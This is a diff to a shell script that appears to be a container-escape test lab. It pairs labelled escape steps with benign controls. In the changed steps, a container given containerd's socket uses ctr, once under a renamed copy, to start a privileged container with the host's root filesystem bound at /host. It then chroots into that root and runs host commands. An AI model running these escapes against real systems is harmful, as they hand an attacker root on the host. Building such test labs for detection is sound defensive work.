@@ -251,12 +251,31 @@ step E14a attempt-unseen "default container: bpf program load refused by seccomp
 step B20 benign "host agent loads a bpf program" -- "$WORK/families" bpf
 step E15 attempt "privileged: finit_module/init_module (refused: ENOSYS without module support)" -- $D lab-e15 --privileged lab/debian:bookworm families module
 # Runtime sockets beyond docker: containerd's socket mounted into a container that has containerd's client `ctr`.
-# ctr hands the new task FIFOs of its own file system for stdio, which the host's shim cannot open: --null-io, and the
-# host commands write their output into a host file that the step prints.
+# ctr builds an image's spec on the client side, mounting the image's snapshot to read its /etc/group, which a default
+# container cannot do (and the snapshot's paths are the host's); --rootfs names a root the runtime uses as it is. The
+# container finds its own root as the host sees it (overlay `merged`, from the upperdir in /proc/self/mounts) and
+# hands that. ctr gives the task FIFOs of its own file system for stdio, which the host's shim cannot open: --null-io,
+# and the host commands write into a host file that the step prints. Such a spec has no PATH: commands by full path.
+# The container-side scripts come from a read-only bind of a host directory.
 SOCK=/run/containerd/containerd.sock
-HOSTRUN="id > $WORK/ctr-out; hostname >> $WORK/ctr-out; cat $WORK/ctr-out"
-step E16 escape "containerd.sock + ctr: ctr run --privileged with the host / bound, chroot, host commands" -- sh -c "$D lab-e16 -v $SOCK:$SOCK lab/debian:bookworm ctr run --rm --null-io --privileged --mount type=bind,src=/,dst=/host,options=rbind:rw $CTR_IMAGE lab-e16-child chroot /host /bin/sh -c '$HOSTRUN' && cat $WORK/ctr-out; rm -f $WORK/ctr-out"
-step E16a escape "containerd.sock + ctr copied to /tmp/x: container create, then task start by id" -- sh -c "$D lab-e16a -v $SOCK:$SOCK lab/debian:bookworm sh -c 'cp /usr/local/bin/ctr /tmp/x && /tmp/x containers create --privileged --mount type=bind,src=/,dst=/host,options=rbind:rw $CTR_IMAGE lab-e16a-child chroot /host /bin/sh -c \"$HOSTRUN\" && /tmp/x tasks start --null-io lab-e16a-child; /tmp/x tasks rm lab-e16a-child; /tmp/x containers rm lab-e16a-child' && cat $WORK/ctr-out; rm -f $WORK/ctr-out"
+mkdir -p "$WORK/ctr-lab"
+HOSTRUN="id > $WORK/ctr-out; hostname >> $WORK/ctr-out; cat /etc/hostname >> $WORK/ctr-out"
+MERGED='m=$(sed -n "s/.*upperdir=\([^,]*\)\/diff.*/\1/p" /proc/self/mounts | head -1)/merged'
+cat > "$WORK/ctr-lab/e16.sh" <<EOF
+$MERGED
+exec ctr run --rm --null-io --privileged --mount type=bind,src=/,dst=/host,options=rbind:rw --rootfs "\$m" lab-e16-child /usr/sbin/chroot /host /bin/sh -c "$HOSTRUN"
+EOF
+cat > "$WORK/ctr-lab/e16a.sh" <<EOF
+$MERGED
+printf '#!/bin/sh\n/usr/sbin/chroot /host /bin/sh -c "$HOSTRUN"\n' > /tmp/host.sh
+cp /usr/local/bin/ctr /tmp/x
+/tmp/x containers create --privileged --mount type=bind,src=/,dst=/host,options=rbind:rw --rootfs "\$m" lab-e16a-child /bin/sh /tmp/host.sh || exit 1
+/tmp/x tasks start --null-io lab-e16a-child; rc=\$?
+/tmp/x containers rm lab-e16a-child
+exit \$rc
+EOF
+step E16 escape "containerd.sock + ctr: ctr run --privileged, the host's / bound at /host, chroot, host commands" -- sh -c "$D lab-e16 -v $SOCK:$SOCK -v $WORK/ctr-lab:/lab:ro lab/debian:bookworm sh /lab/e16.sh; rc=\$?; cat $WORK/ctr-out; rm -f $WORK/ctr-out; exit \$rc"
+step E16a escape "containerd.sock + ctr copied to /tmp/x: container create with the host's / bound, then task start by id" -- sh -c "$D lab-e16a -v $SOCK:$SOCK -v $WORK/ctr-lab:/lab:ro lab/debian:bookworm sh /lab/e16a.sh; rc=\$?; cat $WORK/ctr-out; rm -f $WORK/ctr-out; exit \$rc"
 step B21 benign "monitoring container with containerd.sock: ctr version, containers ls, tasks ls, images ls" -- $D lab-b21 -v $SOCK:$SOCK lab/debian:bookworm sh -c 'ctr version; ctr containers ls; ctr tasks ls; ctr images ls -q'
 step B22 benign "host admin: ctr run of a plain container, containers ls" -- sh -c "ctr run --rm --null-io $CTR_IMAGE lab-b22 echo hello && ctr containers ls"
 step B14 benign-ambiguous "privileged agent-like container, no escape syscalls" -- $D lab-b14 --privileged lab/busybox sh -c 'ls /dev | wc -l'
